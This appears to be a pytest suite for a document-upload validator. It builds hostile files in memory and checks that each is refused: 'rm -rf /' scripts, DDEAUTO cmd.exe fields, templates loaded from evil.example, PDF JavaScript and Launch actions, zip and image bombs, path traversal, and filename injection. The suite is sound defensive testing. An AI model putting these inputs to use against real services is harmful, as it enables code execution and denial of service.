"""Good files pass, bad ones are refused with words that help. Every file is made here; none is stored."""

import io
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable, Mapping

import docx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from tosportal.domain.errors import RuleBroken
from tosportal.support.storage.upload_checks import KINDS, check_upload, clean_name

MEGABYTE = 1024 * 1024
ALL = set(KINDS) - {"heic"}  # photos of iPhones are taken where a caller turns them into JPEG
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"


def packed(entries: Mapping[str, bytes | str], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def word(
    extra: Mapping[str, bytes | str] | None = None, main: str = WORD, body: str = "<w:p/>", types: str = ""
) -> bytes:
    entries: dict[str, bytes | str] = {
        "[Content_Types].xml": f'<Types xmlns="{TYPES}"><Override ContentType="{main}"/>{types}</Types>',
        "word/document.xml": f"<w:document>{body}</w:document>",
    }
    return packed(entries | dict(extra or {}))


def sheet(extra: Mapping[str, bytes | str] | None = None) -> bytes:
    entries: dict[str, bytes | str] = {
        "[Content_Types].xml": f'<Types xmlns="{TYPES}"><Override ContentType="{SHEET}"/></Types>',
        "xl/workbook.xml": "<workbook/>",
    }
    return packed(entries | dict(extra or {}))


def odt(extra: Mapping[str, bytes | str] | None = None, content: str = "<office:text/>") -> bytes:
    kind = "application/vnd.oasis.opendocument.text"
    entries: dict[str, bytes | str] = {"mimetype": kind, "content.xml": content, "META-INF/manifest.xml": "<m/>"}
    return packed(entries | dict(extra or {}))


def relation(kind: str, target: str, mode: str = "External") -> dict[str, bytes | str]:
    element = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return {"word/_rels/document.xml.rels": f'<Relationships xmlns="{RELATIONS}">{element}</Relationships>'}


def field(code: str) -> bytes:
    return word(body=f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>")


def real_docx() -> bytes:
    out = io.BytesIO()
    document = docx.Document()
    document.add_heading("Устав ТОС «Заря»", 1)
    document.add_paragraph("Раздел 1")
    document.save(out)
    return out.getvalue()


def pdf(change: Callable[[PdfWriter], None] = lambda writer: None, pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(200, 200)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def open_action(kind: str) -> Callable[[PdfWriter], None]:
    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject(
            {NameObject("/S"): NameObject(kind), NameObject("/JS"): TextStringObject("app.alert(1)")}
        )

    return change


def named_script(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): DictionaryObject()})


def pdf_without_a_tree(writer: PdfWriter) -> None:
    writer.root_object[NameObject("/Pages")] = DictionaryObject({NameObject("/Kids"): ArrayObject()})


def picture(kind: str, size: tuple[int, int] = (64, 48), mode: str = "RGB") -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert(mode).save(out, kind)
    return out.getvalue()


def png_declaring(width: int, height: int) -> bytes:
    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">L", len(content)) + name + content + struct.pack(">L", zlib.crc32(name + content))

    header = struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def jpeg_declaring(width: int, height: int) -> bytes:
    content = picture("JPEG")
    place = content.index(b"\xff\xc0")
    return content[: place + 5] + struct.pack(">HH", height, width) + content[place + 9 :]


def lying_zip() -> bytes:
    """The lists say 100 bytes, the entry unpacks to 50 MB."""
    big = b"\0" * (50 * MEGABYTE)
    content = bytearray(word({"word/media/image1.png": big}))
    true, lie = struct.pack("<L", len(big)), struct.pack("<L", 100)
    return bytes(content).replace(true, lie)


def locked_zip() -> bytes:
    content = bytearray(word())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = -1
        while (start := content.find(mark, start + 1)) >= 0:
            content[start + place] |= 1
    return bytes(content)


def flipped(content: bytes, place: int) -> bytes:
    return content[:place] + bytes([content[place] ^ 0xFF]) + content[place + 1 :]


GOOD = {
    "pdf": (pdf, "pdf"),
    "pdf with three pages": (lambda: pdf(pages=3), "pdf"),
    "docx": (word, "docx"),
    "docx of a real program": (real_docx, "docx"),
    "docx with a web link": (lambda: word(relation("hyperlink", "https://example.ru/?a=1&amp;b=2")), "docx"),
    "docx with an inner picture": (lambda: word({"word/media/image1.png": picture("PNG")}), "docx"),
    "docx with a page number field": (lambda: field(" PAGE \\* MERGEFORMAT "), "docx"),
    "xlsx": (sheet, "xlsx"),
    "odt": (odt, "odt"),
    "odt with an inner picture": (
        lambda: odt(content='<draw:image xlink:href="Pictures/1.png"/><text:a xlink:href="https://example.ru"/>'),
        "odt",
    ),
    "jpeg": (lambda: picture("JPEG"), "jpeg"),
    "grey jpeg": (lambda: picture("JPEG", mode="L"), "jpeg"),
    "large photo": (lambda: picture("JPEG", (4000, 3000)), "jpeg"),
    "png": (lambda: picture("PNG"), "png"),
    "png with transparency": (lambda: picture("PNG", mode="RGBA"), "png"),
}

BAD = {
    "empty": (lambda: b"", "Файл пустой"),
    "plain text": ("Просто текст".encode, "Не удалось узнать тип"),
    "one byte": (lambda: b"%", "Не удалось узнать тип"),
    "windows program": (lambda: b"MZ\x90\0" + b"\0" * 500, "программа для Windows"),
    "linux program": (lambda: b"\x7fELF" + b"\0" * 500, "программа для Linux"),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "скрипт"),
    "html": (lambda: b"<!DOCTYPE html><script>alert(1)</script>", "HTML"),
    "html after a mark and spaces": (lambda: b"\xef\xbb\xbf \n<html>", "HTML"),
    "svg": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "SVG"),
    "gif": (lambda: picture("GIF"), "картинка GIF"),
    "heic photo": (lambda: b"\0\0\0\x18ftypheic" + b"\0" * 100, "HEIC"),
    "rar": (lambda: b"Rar!\x1a\x07\x00", "архив RAR"),
    "7z": (lambda: b"7z\xbc\xaf\x27\x1c", "архив 7z"),
    "gzip": (lambda: b"\x1f\x8b\x08\0", "архив GZ"),
    "rtf": (lambda: b"{\\rtf1 text}", "документ RTF"),
    "old word": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "старого формата"),
    "docx with a password": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
        "закрыт паролем",
    ),
    "ordinary zip": (lambda: packed({"a.txt": "text"}), "архив ZIP"),
    "java archive": (lambda: packed({"META-INF/MANIFEST.MF": "x", "A.class": "x"}), "архив ZIP"),
    "presentation": (lambda: word(main="application/vnd.ms-powerpoint"), "другого типа"),
    "odt spreadsheet": (lambda: odt({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}), "другого типа"),
    "word with macros": (lambda: word(main="application/vnd.ms-word.document.macroEnabled.main+xml"), "есть макросы"),
    "hidden macros": (lambda: word({"word/vbaProject.bin": b"x"}), "есть макросы"),
    "macros under another name": (
        lambda: word({"word/a.bin": b"x"}, types='<Override ContentType="application/vnd.ms-office.vbaProject"/>'),
        "есть макросы",
    ),
    "macro sheet": (lambda: sheet({"xl/macrosheets/sheet1.xml": "<a/>"}), "есть макросы"),
    "activex": (lambda: word({"word/activeX/activeX1.xml": "<a/>"}), "есть макросы"),
    "ole object": (lambda: word({"word/embeddings/oleObject1.bin": b"x"}), "встроены объекты"),
    "odt with basic": (lambda: odt({"Basic/Standard/Module1.xml": "<a/>"}), "есть макросы"),
    "template from the web": (lambda: word(relation("attachedTemplate", "http://evil.example/t.dotm")), "подгружает"),
    "template with a disguised mode": (
        lambda: word(relation("attachedTemplate", "http://evil.example/t.dotm", "&#69;xternal")),
        "подгружает",
    ),
    "picture from the web": (lambda: word(relation("image", "http://evil.example/1.png")), "подгружает"),
    "link to a share": (lambda: word(relation("hyperlink", "file://10.0.0.1/share")), "подгружает"),
    "link that is a script": (lambda: word(relation("hyperlink", "javascript:alert(1)")), "подгружает"),
    "external workbook": (lambda: sheet({"xl/externalLinks/externalLink1.xml": "<a/>"}), "подгружает"),
    "dde field": (lambda: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "подгружает"),
    "dde field in two runs": (
        lambda: word(body="<w:instrText>DDE</w:instrText><w:instrText>AUTO cmd</w:instrText>"),
        "подгружает",
    ),
    "dde field in entities": (lambda: field("&#68;&#68;EAUTO cmd"), "подгружает"),
    "odt with a remote picture": (
        lambda: odt(content='<draw:image xlink:href="http://evil.example/1.png"/>'),
        "подгружает",
    ),
    "odt with a password": (lambda: odt({"META-INF/manifest.xml": "<manifest:encryption-data/>"}), "закрыт паролем"),
    "entities": (lambda: word({"word/styles.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "повреждён"),
    "entities in utf-16": (
        lambda: word({"word/styles.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")}),
        "повреждён",
    ),
    "zip bomb by ratio": (lambda: word({"word/media/a.png": b"\0" * (30 * MEGABYTE)}), "похож на ловушку"),
    "zip bomb by size": (
        lambda: packed({f"{n}.bin": b"\0" * (26 * MEGABYTE) for n in range(8)} | {"noise": noise(3)}),
        "похож на ловушку",
    ),
    "zip bomb by a lying header": (lying_zip, "повреждён"),
    "zip of 2001 files": (lambda: word({f"word/{n}.txt": "" for n in range(2001)}), "похож на ловушку"),
    "zip with a password": (locked_zip, "закрыт паролем"),
    "path trick": (lambda: word({"../../etc/passwd": "x"}), "повреждён"),
    "absolute path": (lambda: word({"/etc/passwd": "x"}), "повреждён"),
    "same name twice": (lambda: word({"WORD/DOCUMENT.XML": "x"}), "повреждён"),
    "odd compression": (lambda: word_by(zipfile.ZIP_LZMA), "повреждён"),
    "zip cut short": (lambda: real_docx()[:-200], "повреждён"),
    "zip with a flipped byte": (lambda: flipped(word({"word/a.txt": noise(1)}), 5000), "повреждён"),
    "pdf with a password": (lambda: pdf(lambda writer: writer.encrypt("secret")), "закрыт паролем"),
    "pdf with an owner password": (lambda: pdf(lambda w: w.encrypt("", "owner")), "закрыт паролем"),
    "pdf cut short": (lambda: pdf()[:-30], "повреждён"),
    "pdf of a header only": (lambda: b"%PDF-1.7\n%%EOF", "повреждён"),
    "pdf of junk": (lambda: b"%PDF-1.7\n" + noise(0)[:5000] + b"\n%%EOF", "повреждён"),
    "pdf without pages": (lambda: pdf(pages=0), "повреждён"),
    "pdf without a tree": (lambda: pdf(pdf_without_a_tree, pages=0), "повреждён"),
    "pdf with a script": (lambda: pdf(named_script), "встроенная программа"),
    "pdf that runs a script": (lambda: pdf(open_action("/JavaScript")), "встроенная программа"),
    "pdf that launches": (lambda: pdf(open_action("/Launch")), "встроенная программа"),
    "jpeg cut short": (lambda: picture("JPEG", (400, 300))[:2000], "повреждён"),
    "jpeg of a header": (lambda: b"\xff\xd8\xff\xe0" + b"\0" * 100, "повреждён"),
    "png cut short": (lambda: picture("PNG", (400, 300))[:2000], "повреждён"),
    "png with a flipped byte": (lambda: flipped(picture("PNG", (400, 300)), 3000), "повреждён"),
    "png bomb": (lambda: png_declaring(50_000, 50_000), "слишком много точек"),
    "png a little too large": (lambda: png_declaring(10_000, 6_001), "слишком много точек"),
    "jpeg bomb": (lambda: jpeg_declaring(60_000, 60_000), "слишком много точек"),
}


def noise(megabytes: int) -> bytes:
    """Bytes that do not compress, the same every time."""
    return Image.effect_noise((1024, max(1, megabytes) * 1024), 200).tobytes()


def word_by(method: int) -> bytes:
    with zipfile.ZipFile(io.BytesIO(word())) as archive:
        return packed({name: archive.read(name) for name in archive.namelist()}, method)


@pytest.mark.parametrize("what", GOOD)
def test_good_files_pass_whatever_their_name(what: str) -> None:
    make, kind = GOOD[what]
    stream = io.BytesIO(make())
    accepted = check_upload(stream, "C:\\fakepath\\Приложение", accept=ALL, max_bytes=20 * MEGABYTE)
    assert (accepted.kind, accepted.media_type, accepted.size) == (kind, KINDS[kind].media_type, len(stream.getvalue()))
    assert accepted.clean_name == f"Приложение.{KINDS[kind].extensions[0]}"
    assert stream.tell() == 0


@pytest.mark.parametrize("what", BAD)
def test_bad_files_are_refused_with_the_reason(what: str) -> None:
    make, reason = BAD[what]
    stream = io.BytesIO(make())
    with pytest.raises(RuleBroken, match=reason) as caught:
        check_upload(stream, "смета.pdf", accept=ALL, max_bytes=20 * MEGABYTE)
    assert len(caught.value.remarks) == 1
    assert stream.tell() == 0


def test_there_are_many_kinds_of_bad_files() -> None:
    assert len(BAD) >= 40


def test_a_known_kind_that_is_not_wanted_here_names_what_is() -> None:
    with pytest.raises(RuleBroken) as caught:
        check_upload(io.BytesIO(picture("PNG")), "скан.pdf", accept={"jpeg", "pdf"}, max_bytes=MEGABYTE)
    assert str(caught.value) == "Это файл PNG, а здесь он не подходит. Принимаются: PDF, JPEG."


def test_the_size_limit_is_inclusive_and_named() -> None:
    content = pdf() + b"\n" * 10
    assert check_upload(io.BytesIO(content), "a.pdf", accept=ALL, max_bytes=len(content)).size == len(content)
    with pytest.raises(RuleBroken, match="Файл больше"):
        check_upload(io.BytesIO(content), "a.pdf", accept=ALL, max_bytes=len(content) - 1)


def test_a_bomb_costs_little_memory() -> None:
    bomb = lying_zip()
    tracemalloc.start()
    try:
        with pytest.raises(RuleBroken):
            check_upload(io.BytesIO(bomb), "a.docx", accept=ALL, max_bytes=MEGABYTE)
        assert tracemalloc.get_traced_memory()[1] < 10 * MEGABYTE
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("make", [real_docx, pdf, lambda: picture("JPEG", (200, 100)), lambda: picture("PNG", (99, 9))])
def test_a_file_cut_anywhere_is_never_a_crash(make: Callable[[], bytes]) -> None:
    content = make()
    for place in range(0, len(content) - 60, max(1, len(content) // 60)):
        with pytest.raises(RuleBroken):
            check_upload(io.BytesIO(content[:place]), "a", accept=ALL, max_bytes=MEGABYTE)


@given(st.binary(max_size=300), st.sampled_from([b"%PDF-", b"PK\x03\x04", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b""]))
def test_junk_is_refused_and_nothing_else(content: bytes, head: bytes) -> None:
    with pytest.raises(RuleBroken):
        check_upload(io.BytesIO(head + content), "a", accept=ALL, max_bytes=MEGABYTE)


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("Устав ТОС «Заря».pdf", "Устав ТОС «Заря».pdf"),
        ("../../etc/passwd", "passwd.pdf"),
        ("..\\..\\boot.ini", "boot.ini.pdf"),
        ("", "файл.pdf"),
        ("...", "файл.pdf"),
        ("\0\r\n\t.pdf", "файл.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("смета\r\nSet-Cookie: a=b.pdf", "сметаSet-Cookie_ a=b.pdf"),
        ("счёт\u202efdp.exe", "счётfdp.exe.pdf"),
        ('<img src=x onerror="a">.pdf', "_img src=x onerror=_a__.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("СКАН.PDF", "СКАН.PDF"),
        ("и\u0306.pdf", "й.pdf"),
        ("a  b\u00a0c.pdf", "a b c.pdf"),
        ("ж" * 500 + ".pdf", "ж" * 116 + ".pdf"),
    ],
)
def test_names_are_only_labels(name: str, clean: str) -> None:
    assert clean_name(name, KINDS["pdf"]) == clean


@given(st.text(max_size=400))
def test_any_name_becomes_a_safe_label(name: str) -> None:
    clean = clean_name(name, KINDS["jpeg"])
    assert 0 < len(clean) <= 120
    assert clean.lower().endswith((".jpg", ".jpeg"))
    assert not set(clean) & set('/\\<>:"|?*\r\n\0')
    assert clean.isprintable()
    assert clean_name(clean, KINDS["jpeg"]) == clean
